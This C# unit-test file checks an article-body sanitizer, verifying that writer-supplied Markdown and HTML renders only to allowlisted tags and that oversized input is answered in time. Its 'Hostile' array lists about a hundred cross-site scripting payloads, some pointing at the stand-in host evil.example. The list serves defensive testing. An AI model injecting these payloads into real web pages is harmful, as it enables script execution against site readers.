using System.Diagnostics;
using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Vigil.Authoring.Articles;
using Vigil.Kit;

namespace Vigil.Authoring.Tests.Articles;

/// <summary>What writers send becomes what readers' browsers run: nothing but the listed tags may come out, whatever went in.</summary>
public class ArticleBodyTests
{
    static readonly string[] Tags =
    [
        "p", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "a", "em", "strong", "i", "b", "br", "hr", "code", "pre", "sub", "sup", "abbr", "del", "ins",
        "table", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "cite", "q",
    ];

    static readonly string[] Attributes = ["href", "title", "lang", "dir", "start", "colspan", "rowspan", "rel"];

    static ArticleText Text(string body) => new("Headline", body, "en");

    /// <summary>Null where the text is refused; otherwise all that readers see of it.</summary>
    static string? Readable(string body) => ArticleBody.Faults(Text(body)).Any(f => f.Code is "article.too-deep" or "article.too-heavy") ? null : string.Concat(ArticleBody.Render(body).Select(b => b.Html));

    static IEnumerable<string> Violations(string html)
    {
        var body = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<!doctype html><body>{html}</body>").Body!;
        if (body.Owner!.Head!.HasChildNodes) yield return "something in the head";
        foreach (var element in body.QuerySelectorAll("*"))
        {
            if (!Tags.Contains(element.LocalName) || element.NamespaceUri != NamespaceNames.HtmlUri) yield return $"<{element.LocalName}>";
            foreach (var attribute in element.Attributes.Where(a => !Attributes.Contains(a.Name))) yield return $"{element.LocalName}[{attribute.Name}]";
            if (element.GetAttribute("href") is { } href && !(Uri.TryCreate(href, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" or "mailto"
                && href.StartsWith(uri.Scheme + ":", StringComparison.OrdinalIgnoreCase))) yield return $"href={href}";
            if (element.HasAttribute("href") && element.GetAttribute("rel") != "noopener noreferrer") yield return "a link without rel";
        }
        foreach (var comment in body.Descendants<IComment>()) yield return $"a comment: {comment.Data}";
        if (body.InnerHtml != html) yield return $"read again, it is other markup: {body.InnerHtml}";
    }

    [Theory, InlineData("<p onclick=\"x()\">a</p>"), InlineData("<script>x()</script>"), InlineData("<a href=\"javascript:x()\">a</a>"), InlineData("<a href=\"/here\" rel=\"noopener noreferrer\">a</a>"),
     InlineData("<a href=\"https://e.org/\">a</a>"), InlineData("<svg><p>a</p></svg>"), InlineData("<p><!-- x --></p>"), InlineData("<p>a<p>b")]
    public void Unsafe_markup_is_reported(string html) => Assert.NotEmpty(Violations(html));

    public static readonly string[] Hostile =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\t>", "<script>alert(1)",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<p onclick=alert(1)>a</p>", "<p OnMouseOver='alert(1)'>a</p>", "<b/onfocus=alert(1) autofocus tabindex=1>a</b>",
        "<a href=javascript:alert(1)>a</a>", "<a href='JaVaScRiPt:alert(1)'>a</a>", "<a href='java\tscript:alert(1)'>a</a>", "<a href='java&#10;script:alert(1)'>a</a>",
        "<a href='&#x6A;avascript&colon;alert(1)'>a</a>", "<a href=' &#1; javascript:alert(1)'>a</a>", "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
        "<a href='vbscript:x'>a</a>", "<a href='//evil.example'>a</a>", "<a href='/path'>a</a>", "<a href='\\\\evil.example'>a</a>", "<a href='https:evil'>a</a>", "<a href='http://a:b@evil.example'>a</a>",
        "<a href='https://e.org' target=_blank rel=opener ping=//evil.example>a</a>", "<a href='mailto:a@b.org?bcc=c@d.org'>a</a>", "<a href='file:///etc/passwd'>a</a>", "<a href='blob:https://e.org/1'>a</a>",
        "[a](javascript:alert(1))", "[a](JAVASCRIPT:alert(1))", "[a](<javascript:alert(1)>)", "[a](javascript&colon;alert(1))", "[a](java%0ascript:alert(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>", "<https://e.org/\"onmouseover=alert(1)>", "[a](https://e.org \"t\\\" onclick=alert(1)\")", "[a]: javascript:alert(1)\n\n[a]", "![a](x \"t\")", "![a](javascript:alert(1))", "![<b onx=1>](y)",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
        "<svg><foreignObject><p onclick=x>a</p></foreignObject></svg>", "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>", "<embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<style>@import '//evil.example';", "<p style='background:url(javascript:alert(1))'>a</p>", "<div style='position:fixed;inset:0'>a</div>",
        "<p class=fixed id=top name=x data-x=1 aria-hidden=true hidden>a</p>", "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>a</button></form>",
        "<input autofocus onfocus=alert(1)>", "<select><option>a</select>", "<textarea><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)></title>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img src=x onerror=alert(1)></noembed>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>", "<template><script>alert(1)</script></template>", "<frameset onload=alert(1)>", "<body onload=alert(1)>", "<html manifest=x>",
        "<details open ontoggle=alert(1)><summary>a</summary>b</details>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>a</marquee>", "<portal src=x></portal>", "<slot onslotchange=x>",
        "<!-- a --!><img src=x onerror=alert(1)> -->", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!doctype html>", "<!ENTITY x>", "</p></div></body></html><script>alert(1)</script>",
        "<table><tr><td><a href='https://e.org'>x</table><p>y</a>", "<table><script>alert(1)</script></table>", "<li><dd><p><li>", "<a href='https://e.org'><a href='https://f.org'>x</a></a>", "<b><p>a</b>b</p>", "<h1>a<h1>b", "<p><table><p>",
        "\0<script\0>alert(1)</script>", "<\u0000script>alert(1)</script>", "＜script＞alert(1)", "\ufeff<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script>",
        "`<script>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "a | b\n- | -\n<script> | [x](javascript:1)", "<a\u2028href=javascript:alert(1)>a</a>", "<p title='\"><script>alert(1)</script>'>a</p>", "<p lang='\"onx=1'>a</p>",
        "{quotation 1}", "{call 99}", "<p>{image 1}</p>",
        "- <td><a href=javascript:alert(1)>a</a><h1>a<h1>b<table>=a | b\n- | -\n<script> | [x](javascript:1)",
    ];

    public static TheoryData<string> EachHostile => [.. Hostile];

    [Theory, MemberData(nameof(EachHostile))]
    public void Hostile_markup_comes_out_harmless(string markup)
    {
        Assert.Empty(Violations(Readable(markup) ?? ""));
        Assert.Empty(Violations(Readable($"Before {markup} after\n\n{markup}\n\n> - {markup}\n\n<p title='{markup}") ?? ""));
        Assert.DoesNotContain("alert(1)</script", Readable(markup) ?? "");
    }

    [Fact]
    public void So_does_whatever_is_put_together_of_it() =>
        Gen.OneOf(OneOf(Hostile), OneOf("\n", "\n\n", "> ", "- ", "1. ", "*", "**", "`", "|", "<p>", "</p>", "<table>", "<td>", "<b>", "</b>", "\"", "'", ">", "<", "&", "="), Gen.String[0, 12])
            .Array[1, 12].Select(string.Concat).Sample(markup => Assert.Empty(Violations(Readable(markup) ?? "")), iter: 2_000);

    static Gen<string> OneOf(params string[] texts) => Gen.Int[0, texts.Length - 1].Select(i => texts[i]);

    public static TheoryData<string> Heavy => [.. new[] { "[", "![", "*a ", "_a_ ", "`", "> ", "- ", "<", "<b>", "<div>", "</p>", "&", "[a](", "a|", "<!--", "\\", "<a href=\"", "**a *a ", "{quotation 1}\n\n", "[a][a]", "1. ", "<table><td>", "&#x6a;", "a\n\n", "<p title='a' " }];

    /// <summary>The longest body there may be, of the worst kind: an answer in time, and never the end of the process.</summary>
    [Theory, MemberData(nameof(Heavy))]
    public void The_longest_body_is_answered_in_time(string piece)
    {
        var body = new StringBuilder(ArticleText.LongestBody).Insert(0, piece, ArticleText.LongestBody / piece.Length).ToString();
        var watch = Stopwatch.StartNew();
        var html = Readable(body);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(8), $"{piece.Trim()} took {watch.Elapsed.TotalSeconds:0.0} s");
        if (html is { Length: < 2_000_000 }) Assert.Empty(Violations(html));
    }

    [Theory, InlineData("> "), InlineData("- "), InlineData("<b>"), InlineData("<blockquote>")]
    public void A_body_too_deep_is_refused(string piece) =>
        Assert.Equal("article.too-deep", ArticleBody.Faults(Text(new StringBuilder().Insert(0, piece, 500).Append('a').ToString())).Single().Code);

    [Fact]
    public void A_body_that_would_take_long_is_refused_and_a_long_one_is_not()
    {
        var paragraph = new string('a', 19_000);
        Assert.Empty(ArticleBody.Faults(Text(string.Join("\n\n", Enumerable.Repeat(paragraph, 10)))));
        Assert.Empty(ArticleBody.Faults(Text(string.Concat(Enumerable.Repeat("A paragraph *of* two.\n\n", 4_000)))));
        Assert.Equal("article.too-heavy", ArticleBody.Faults(Text($"{paragraph}\n{paragraph}")).Single().Code);
        Assert.Equal("article.too-heavy", ArticleBody.Faults(Text(string.Concat(Enumerable.Repeat("a\n\n", 40_000)))).Single().Code);
    }

    static readonly (string Name, string Body)[] Cases =
    [
        ("paragraphs", "One *stressed*, one **strong**.\nStill the first.\n\nThe second."),
        ("a hard break", "One  \ntwo\\\nthree"),
        ("headings stay below the headline", "# One\n\n## Two\n\n##### Five\n\nSet\n==="),
        ("lists", "- a\n- b\n  - c\n\n3. three\n4. four"),
        ("a quotation", "> Said\n> so.\n>\n> > Within."),
        ("code", "`x < y`\n\n```cs\nvar a = \"<b>\";\n```\n\n    indented"),
        ("links", "[a](https://example.org/?a=1&b=2 \"Title\") <https://example.org> <desk@example.org> [mail](mailto:desk@example.org) https://example.org"),
        ("links that are none for readers", "[here](/news) [script](javascript:alert(1)) [ftp](ftp://example.org)"),
        ("pictures say what they say", "![A *church*](https://example.org/a.jpg) ![](https://example.org/b.jpg)"),
        ("a table", "a | b\n--- | ---\n1 | 2"),
        ("markup that is listed", "H<sub>2</sub>O, <abbr title=\"a\">A</abbr>, <del>no</del> <ins>yes</ins>, <q lang=\"de\">ja</q>"),
        ("markup that is not", "<div class=\"x\">kept <span>words</span></div>\n\n<script>gone</script>\n\n<p align=\"center\">p</p>"),
        ("markup that reads differently once tags are taken from it", "- <td><a href=https://example.org>a</a><h1>a<h1>b<table>=a | b\n- | -\n<script> | c"),
        ("what looks like a tag in a title", "[a](https://example.org \"a > b & c\")"),
        ("characters", "&copy; &amp; &lt;b&gt; “ü” 北韓 \\*not stressed\\*"),
        ("a rule", "a\n\n---\n\nb"),
        ("parts placed by name", "First.\n\n{quotation 1}\n\nThen.\n\n{call 2}\n\n{image 1}"),
        ("what only looks like a placement", "Not {quotation 1} here.\n\n{quotation 0}\n\n{video 1}\n\n- {call 1}\n\n{call 1} \n\n`{call 1}`"),
        ("nothing", " \n\n"),
    ];

    [Fact]
    public void What_CommonMark_becomes_is_what_was_approved()
    {
        var golden = new StringBuilder();
        foreach (var (name, body) in Cases)
        {
            golden.Append($"# {name}\n{body}\n# becomes\n");
            foreach (var block in ArticleBody.Render(body)) golden.Append(block.Html ?? $"[{block.Part} {block.Number}]").Append('\n');
            golden.Append('\n');
        }
        Assert.Empty(Cases.SelectMany(c => Violations(Readable(c.Body)!)));
        Approved.Is("Authoring.Tests/Articles/bodies.approved.txt", golden.ToString());
    }

    [Fact]
    public void A_part_that_is_not_there_or_stands_twice_is_refused()
    {
        var text = Text("{quotation 1}") with { Quotations = [new("Said.", Attribution.Withheld)] };
        Assert.Empty(ArticleBody.Faults(text));
        Assert.Equal("article.unknown-part", ArticleBody.Faults(text with { Body = "{quotation 2}" }).Single().Code);
        Assert.Equal("article.unknown-part", ArticleBody.Faults(text with { Body = "{call 1}" }).Single().Code);
        Assert.Equal("article.part-placed-twice", ArticleBody.Faults(text with { Body = "{quotation 1}\n\n{quotation 1}" }).Single().Code);
    }
}
